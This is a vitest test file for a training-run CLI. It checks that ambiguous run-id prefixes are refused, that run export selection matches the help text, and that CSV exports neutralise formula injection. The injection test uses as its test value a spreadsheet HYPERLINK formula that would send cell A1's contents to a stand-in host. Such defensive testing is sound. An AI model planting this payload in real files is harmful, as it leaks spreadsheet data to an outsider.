// Scripting that never guesses (issue 22, items 2, 14 and 15), through the real CLI as a process on
// a real run history: a run-id prefix that matches several runs is refused with how many match, in
// every command that takes a run; `runs export` selects what its help says; CSV cells that a
// spreadsheet would evaluate are neutralised by OWASP's whole-number rule. The records are written
// with the real RunStore (the runs themselves are not what is tested, so no trainer runs here).
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_TRAIN_CONFIG } from '../../trainer/protocol';
import type { RunMeta } from '../../electron/common';
import { RunStore } from '../../electron/core/runs/run-store';
import { runCli, tempDataDir } from '../helpers/cli';

const data = tempDataDir();
const env = { COHORT_DATA_DIR: data, COHORT_CONFIG_DIR: join(data, 'config') };
const store = new RunStore(join(data, 'runs'));
afterAll(() => rmSync(data, { recursive: true, force: true }));

// Three runs share the prefix 20261126-06, one is alone under 20261126-07; one from 2025.
const IDS = ['20261126-060101-aaaa', '20261126-060202-bbbb', '20261126-060303-cccc', '20261126-070101-dddd', '20251231-235959-eeee'];
beforeAll(() => {
  IDS.forEach((id, i) => {
    const meta: RunMeta = {
      id, profile: 'local', startedAt: `20${id.slice(2, 4)}-${id.slice(4, 6)}-${id.slice(6, 8)}T${id.slice(9, 11)}:${id.slice(11, 13)}:${id.slice(13, 15)}.000Z`, endedAt: undefined,
      status: 'ok', config: DEFAULT_TRAIN_CONFIG, hosts: [{ name: 'local', ranks: [0] }], worldSize: 1, versions: {}, medianGlobalSamplesPerSec: 10 + i, steps: 5,
      throughput: { windows: 1, median: 10 + i, min: 10 + i, q1: 10 + i, q3: 10 + i, max: 10 + i },
    };
    store.create(meta).close();
  });
});

async function cli(...args: string[]) {
  const r = runCli(args, { env });
  const { code } = await r.exit;
  return { code, stdout: r.stdout, stderr: r.stderr };
}

describe('an ambiguous run-id prefix is refused, naming how many runs match', () => {
  for (const cmd of [['runs', 'show'], ['runs', 'rename'], ['runs', 'rm'], ['attach'], ['stop'], ['runs', 'export']]) {
    it(`cohort ${cmd.join(' ')} 20261126-06`, async () => {
      const r = await cli(...cmd, '20261126-06', ...(cmd[1] === 'rename' ? ['renamed'] : []));
      expect(r.code, r.stdout + r.stderr).toBe(2);
      expect(r.stderr).toContain('ambiguous: 3 runs match 20261126-06');
      expect(r.stdout).toBe('');
    }, 60_000);
  }
  it('no run was renamed by the refused rename, nor deleted by the refused rm', () => {
    expect(IDS.map((id) => store.meta(id)?.name)).toEqual(IDS.map(() => undefined));
    expect(IDS.filter((id) => !store.meta(id))).toEqual([]);
  });
  it('a prefix that matches one run still picks it', async () => {
    const r = await cli('runs', 'show', '20261126-07');
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain('run 20261126-070101-dddd');
  }, 60_000);
});

describe('cohort runs export selects what its help says', () => {
  it('`runs export 2026` is refused (4 runs match) rather than exporting one of them', async () => {
    const r = await cli('runs', 'export', '2026', '--format', 'summary');
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('ambiguous: 4 runs match 2026');
  }, 60_000);
  it('`runs export --match 2026 --format summary` (the help\'s example) exports every run whose id starts with 2026, oldest first', async () => {
    const r = await cli('runs', 'export', '--match', '2026', '--format', 'summary');
    expect(r.code, r.stderr).toBe(0);
    const ids = r.stdout.trim().split('\n').slice(1).map((l) => l.split(',')[0]);
    expect(ids).toEqual(IDS.slice(0, 4));  // IDS are oldest first within 2026
  }, 60_000);
  it('a prefix that matches nothing is an error', async () => {
    const r = await cli('runs', 'export', '--match', '1999', '--format', 'summary');
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('no run matches 1999');
  }, 60_000);
});

describe('CSV formula injection: cells are neutralised by the whole-number rule', () => {
  it('a run named -2+3+HYPERLINK(...) is exported with a leading quote; numbers stay numbers', async () => {
    const evil = '-2+3+HYPERLINK("http://x.example/?q="&A1,"o")';
    const ren = await cli('runs', 'rename', IDS[4]!, '--', evil);
    expect(ren.code, ren.stderr).toBe(0);
    const r = await cli('runs', 'export', IDS[4]!, IDS[3]!, '--format', 'summary', '--baseline', IDS[4]!);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain(`"'-2+3+HYPERLINK(""http://x.example/?q=""&A1,""o"")"`);
    expect(r.stdout).not.toMatch(/(^|,)"?-2\+3/m);
    // The newer run's speedup over the older is negative (13 vs 14 samples/s), and stays a plain number.
    const row = r.stdout.trim().split('\n').find((l) => l.startsWith(IDS[3]!))!;
    expect(row).toMatch(/,-7\.1,/);
  }, 60_000);
});
